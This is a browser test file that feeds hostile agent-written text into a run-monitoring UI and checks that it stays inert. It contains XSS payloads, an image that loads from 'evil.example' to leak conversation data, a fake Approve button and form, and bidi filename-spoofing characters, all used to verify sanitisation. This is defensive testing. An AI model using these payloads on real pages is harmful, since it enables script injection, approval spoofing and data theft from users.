"""What agents wrote is inert in every place of the page: nothing runs, nothing is fetched, nothing hides.

The symptom: text of agents was rendered as Markdown, with links that run, handlers, and images of others' servers.
"""

import re
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.support.cable import Cable
from tests.support.http_hand import HttpHand

pytestmark = [pytest.mark.browser, pytest.mark.processes]

EVIL = "https://evil.example/x"
TEXTS = {
    "javascript": "[open](javascript:document.title='hacked') <a href=\"javascript:window.hacked=1\">open</a>",
    "data": "<a href='data:text/html,<script>window.hacked=1</script>'>open</a>",
    "handler": f'"><img src={EVIL}?d=1 onerror=window.hacked=1><svg onload=window.hacked=1>',
    "image": f"![x]({EVIL}.png?conversation=everything)",
    "frame": f"<iframe src={EVIL}></iframe><script>window.hacked=1</script>",
    "button": "<button>Approve</button> [Approve] <form action=https://evil.example><input name=digest></form>",
    "formula": "$$\\href{javascript:window.hacked=1}{x}$$ ```mermaid\nclick A 'javascript:window.hacked=1'\n```",
    "terminal": "\x1b[31mred\x1b]8;;https://evil.example\x07link",
    "turned": "invoice_\u202egpj.exe and \u2066hidden\u2069 zero\u200bwidth \u00ad\ufeff",
}
HIDING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]")


def visible(text: str) -> str:
    return HIDING.sub(lambda found: f"\\u{{{ord(found[0]):x}}}", text)


def hostile_run(agent: httpx.Client) -> HttpHand:
    """A run whose every text wishes the reader ill."""
    hand = HttpHand(agent, headline=TEXTS["handler"][:80])
    all_texts = list(TEXTS.values())
    everything = " ".join(all_texts)
    hand.write(
        ("plan.proposed", {"items": [{"id": f"{n}", "title": text[:200]} for n, text in enumerate(all_texts)]}),
        *(("progress.noted", {"text": text}) for text in all_texts),
        ("tool.started", {"step": "s", "name": TEXTS["frame"], "title": TEXTS["handler"], "effect": "none"}),
        ("tool.failed", {"step": "s", "attempt": 1, "error": {"type": TEXTS["image"], "message": everything}}),
        ("message.completed", {"message": "m", "role": "assistant", "kind": "text", "text": everything}),
    )
    hand.put("art_1", TEXTS["handler"], b"<script>window.hacked=1</script>", "text/html")
    proposal = {
        "intent": everything,
        "lineage": all_texts,
        "permissions": all_texts,
        "blast_radius": TEXTS["button"],
        "rollback": TEXTS["turned"],
    }
    asked = {"request": "q", "title": TEXTS["turned"][:200], "proposal": proposal, "deciders": ["role:operator"]}
    hand.write(("approval.requested", asked), release={"on": ["q"]})
    return hand


def test_it_is_text_wherever_it_stands(page: Page, line: Cable, agent: httpx.Client) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog: {dialog.message}"))
    page.evaluate(
        "() => addEventListener('securitypolicyviolation', () => { window.hacked = 'stopped by the policy'; })"
    )
    hand = hostile_run(agent)
    page.goto(f"{line.url}/#run={hand.run}")
    page.get_by_role("button", name="Approve").wait_for()
    page.get_by_role("button", name=TEXTS["handler"]).wait_for()

    card = page.locator(".ask").inner_text()
    shown = httpx_run(agent, hand.run)
    assert shown["waiting_on"][0]["request"]["digest"] in card
    for text in TEXTS.values():
        for part in visible(text).split("\n"):
            assert part in card, part
            assert part in page.locator("#log").inner_text(), part
    for place in ("#plan", "#headline"):
        assert "<" in page.locator(place).inner_text(), place
    assert not HIDING.search(page.locator("body").inner_text())
    assert not HIDING.search(page.title())

    assert page.locator("#desk :is(img, svg, iframe, script, form:not(#start), b)").count() == 0
    links = page.eval_on_selector_all("#desk a", "(all) => all.map((a) => a.getAttribute('href'))")
    assert all(link.startswith("#run=") for link in links)
    expect(page.locator(".ask button")).to_have_text(["Approve", "Reject"])
    assert page.evaluate("() => window.hacked") is None
    assert {urlsplit(url).netloc for url in asked} == {urlsplit(line.url).netloc}


def test_what_a_refusal_quotes_is_text_too(page: Page) -> None:
    page.get_by_label("Review a folder").fill(f"/tmp/{TEXTS['handler']}{TEXTS['turned']}")
    page.get_by_role("button", name="Start review").click()
    expect(page.get_by_role("alert")).to_be_visible()
    assert page.locator("#notice :is(img, svg, a)").count() == 0
    assert not HIDING.search(page.locator("#notice").inner_text())


def httpx_run(agent: httpx.Client, run: str) -> Any:
    return agent.get(f"/v1/runs/{run}").raise_for_status().json()
